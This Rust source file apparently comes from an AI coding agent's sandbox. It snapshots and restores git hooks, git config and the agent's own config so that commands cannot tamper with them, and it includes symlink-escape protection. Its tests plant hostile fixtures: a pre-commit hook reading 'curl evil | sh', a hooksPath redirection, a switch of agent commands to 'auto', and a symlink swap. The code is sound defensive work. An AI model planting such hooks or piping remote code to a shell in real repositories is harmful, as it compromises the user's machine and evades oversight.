//! Files inside the workspace that commands must not change because something outside the sandbox runs or
//! trusts them later: git hooks and git config (run by the user's next `git commit`), and tandem's own
//! project config. Landlock cannot carve them out of the writable workspace, so they are snapshotted before a
//! command and put back after it, and the model is told.

use std::collections::BTreeMap;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

/// Workspace-relative files that are guarded, and directories whose direct children are.
const FILES: &[&str] = &[".git/config", ".tandem/config.toml"];
const DIRS: &[&str] = &[".git/hooks"];

/// The guarded files' content and mode before a command.
#[derive(Debug, Default)]
pub struct Snapshot {
    files: BTreeMap<PathBuf, Option<(Vec<u8>, u32)>>,
    dirs: Vec<PathBuf>,
}

fn read(path: &Path) -> Option<(Vec<u8>, u32)> {
    let meta = std::fs::symlink_metadata(path).ok()?;
    if !meta.is_file() {
        return None;
    }
    Some((std::fs::read(path).ok()?, meta.permissions().mode()))
}

fn children(dir: &Path) -> Vec<PathBuf> {
    std::fs::read_dir(dir)
        .map(|d| d.flatten().map(|e| e.path()).collect())
        .unwrap_or_default()
}

fn unlink_linked_ancestors(root: &Path, path: &Path) {
    let Ok(rel) = path.strip_prefix(root) else {
        return;
    };
    let mut cur = root.to_path_buf();
    for c in rel.parent().into_iter().flat_map(|p| p.components()) {
        cur.push(c);
        match std::fs::symlink_metadata(&cur) {
            Ok(m) if m.is_dir() => {}
            Ok(_) => {
                let _ = std::fs::remove_file(&cur);
            }
            Err(_) => {}
        }
    }
}

impl Snapshot {
    /// Records the guarded files under `root`.
    pub fn take(root: &Path) -> Snapshot {
        let mut snap = Snapshot::default();
        for f in FILES {
            let p = root.join(f);
            snap.files.insert(p.clone(), read(&p));
        }
        for d in DIRS {
            let dir = root.join(d);
            for p in children(&dir) {
                snap.files.insert(p.clone(), read(&p));
            }
            snap.dirs.push(dir);
        }
        snap
    }

    /// Puts back whatever a command changed, created or removed; returns the workspace-relative paths
    /// restored.
    pub fn restore(&self, root: &Path) -> Vec<String> {
        let mut restored = Vec::new();
        let mut check = |path: &Path, before: Option<&(Vec<u8>, u32)>| {
            let now = read(path);
            let changed = match (&now, before) {
                (None, None) => std::fs::symlink_metadata(path).is_ok(),
                (Some(a), Some(b)) => a != b,
                _ => true,
            };
            if !changed {
                return;
            }
            // A directory on the way that became a link would take the restore outside: the link goes.
            unlink_linked_ancestors(root, path);
            // Whatever is there now (a file, a link, a directory) goes; the old file comes back.
            let _ = std::fs::remove_file(path).or_else(|_| std::fs::remove_dir_all(path));
            if let Some((bytes, mode)) = before {
                if let Some(parent) = path.parent() {
                    let _ = std::fs::create_dir_all(parent);
                }
                let _ = super::write_atomic(path, bytes);
                // Permission bits only: tandem never sets a set-user-ID or set-group-ID bit.
                let _ =
                    std::fs::set_permissions(path, std::fs::Permissions::from_mode(*mode & 0o777));
            }
            restored.push(
                path.strip_prefix(root)
                    .unwrap_or(path)
                    .display()
                    .to_string(),
            );
        };
        for (path, before) in &self.files {
            check(path, before.as_ref());
        }
        for dir in &self.dirs {
            for p in children(dir) {
                if !self.files.contains_key(&p) {
                    check(&p, None);
                }
            }
        }
        restored
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn changed_created_and_removed_files_are_put_back() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
        std::fs::write(root.join(".git/config"), "[core]\n").unwrap();
        std::fs::write(root.join(".git/hooks/pre-push.sample"), "sample").unwrap();
        let snap = Snapshot::take(root);
        assert!(snap.restore(root).is_empty(), "nothing changed");
        std::fs::write(root.join(".git/config"), "[core]\nhooksPath = evil\n").unwrap();
        std::fs::write(root.join(".git/hooks/pre-commit"), "curl evil | sh").unwrap();
        std::fs::remove_file(root.join(".git/hooks/pre-push.sample")).unwrap();
        std::fs::create_dir_all(root.join(".tandem")).unwrap();
        std::fs::write(
            root.join(".tandem/config.toml"),
            "[agent]\ncommands = \"auto\"\n",
        )
        .unwrap();
        let mut restored = snap.restore(root);
        restored.sort();
        assert_eq!(
            restored,
            [
                ".git/config",
                ".git/hooks/pre-commit",
                ".git/hooks/pre-push.sample",
                ".tandem/config.toml"
            ]
        );
        assert_eq!(
            std::fs::read_to_string(root.join(".git/config")).unwrap(),
            "[core]\n"
        );
        assert!(!root.join(".git/hooks/pre-commit").exists());
        assert!(!root.join(".tandem/config.toml").exists());
        assert_eq!(
            std::fs::read_to_string(root.join(".git/hooks/pre-push.sample")).unwrap(),
            "sample"
        );
    }

    #[test]
    fn a_hooks_directory_swapped_for_a_link_is_not_written_through() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().join("ws");
        let outside = dir.path().join("outside");
        std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
        std::fs::create_dir_all(&outside).unwrap();
        std::fs::write(root.join(".git/hooks/pre-commit"), "ok").unwrap();
        let snap = Snapshot::take(&root);
        std::fs::remove_dir_all(root.join(".git/hooks")).unwrap();
        std::os::unix::fs::symlink(&outside, root.join(".git/hooks")).unwrap();
        snap.restore(&root);
        assert!(
            std::fs::read_dir(&outside).unwrap().next().is_none(),
            "nothing written outside"
        );
        assert!(
            !std::fs::symlink_metadata(root.join(".git/hooks"))
                .unwrap()
                .is_symlink()
        );
        assert_eq!(
            std::fs::read_to_string(root.join(".git/hooks/pre-commit")).unwrap(),
            "ok"
        );
    }
}
